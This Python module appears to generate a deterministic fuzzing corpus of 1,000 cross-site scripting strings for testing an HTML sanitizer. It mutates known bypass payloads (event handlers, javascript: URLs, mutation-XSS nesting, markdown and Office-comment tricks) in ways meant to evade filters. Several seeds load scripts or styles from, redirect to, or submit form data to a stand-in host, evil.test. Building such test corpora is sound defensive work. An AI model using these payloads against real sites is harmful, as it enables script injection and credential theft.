"""1,000 attack strings, always the same: known ones, each changed in the ways that fool filters."""

import random

SEEDS = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.test/x'>x</a>",
    "<a href='/\\evil.test/x'>x</a>",
    "<a href='https://ok.test' onclick=alert(1)>x</a>",
    "<a href='https://ok.test\" onclick=\"alert(1)'>x</a>",
    "<a href='https://ok.test' style='position:fixed;inset:0'>x</a>",
    "<a href='https://ok.test' target=_top ping=https://evil.test>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=evil.swf>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>@import '//evil.test/x.css';</style>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<form action=//evil.test><input name=pin><button>x</button></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p class=x id=y name=z>x</p>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<plaintext><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "**<script>alert(1)</script>**",
    "[<img src=x onerror=alert(1)>](https://ok.test)",
    'https://ok.test/"onmouseover=alert(1)',
    "<p class=MsoListParagraph style='mso-list:l0 level1'><span style='mso-list:Ignore'>"
    "<img src=x onerror=alert(1)></span><script>alert(1)</script></p>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!--[if !supportLists]--><img src=x onerror=alert(1)><!--[endif]-->",
)
COUNT = 1000


def strings():
    """The seeds as they are, then changed ones up to :data:`COUNT`; the same at every run."""
    chance = random.Random(20270421)
    found = list(dict.fromkeys(SEEDS))
    known = set(found)
    while len(found) < COUNT:
        text = chance.choice(SEEDS)
        for _ in range(chance.randint(1, 4)):
            text = chance.choice(CHANGES)(text, chance)
        if text not in known:
            known.add(text)
            found.append(text)
    return found


def _case(text, chance):
    return "".join(c.upper() if chance.random() < 0.5 else c for c in text)


def _entities(text, chance):
    return "".join(f"&#x{ord(c):x};" if c.isalpha() and chance.random() < 0.2 else c for c in text)


def _double(text, chance):
    word = chance.choice(("script", "img", "onerror", "javascript:", "<", ">"))
    return text.replace(word, word[: len(word) // 2] + word + word[len(word) // 2 :])


def _inserted(text, chance):
    place = chance.randint(0, len(text))
    sign = chance.choice(
        ("\x00", "\t", "\n", "\r", "\x0c", "/", " ", "\u200b", "\u202e", "<", '"', "'", "`", "&")
    )
    return text[:place] + sign + text[place:]


def _cut(text, chance):
    place = chance.randint(1, max(1, len(text) - 1))
    return text[:place] if chance.random() < 0.5 else text[place:]


def _wrapped(text, chance):
    before, after = chance.choice(
        (
            ("<p>", "</p>"),
            ("<ul><li>", "</li></ul>"),
            ("<a href='https://ok.test'>", "</a>"),
            ("<svg><desc>", "</desc></svg>"),
            ("<math><mi>", "</mi></math>"),
            ("<table><tr><td>", "</table>"),
            ("<select><option>", "</select>"),
            ("<b><p>", "</b></p>"),
            ("<blockquote>", ""),
            ("## ", "\n"),
            ("- ", "\n- "),
            ("<p>" * 40, "</p>" * 3),
            ("<!-- ", " --!>"),
            ('<p title="', '">'),
        )
    )
    return before + text + after


def _joined(text, chance):
    other = chance.choice(SEEDS)
    place = chance.randint(0, len(other))
    return other[:place] + text + other[place:]


CHANGES = (_case, _entities, _double, _inserted, _cut, _wrapped, _joined)
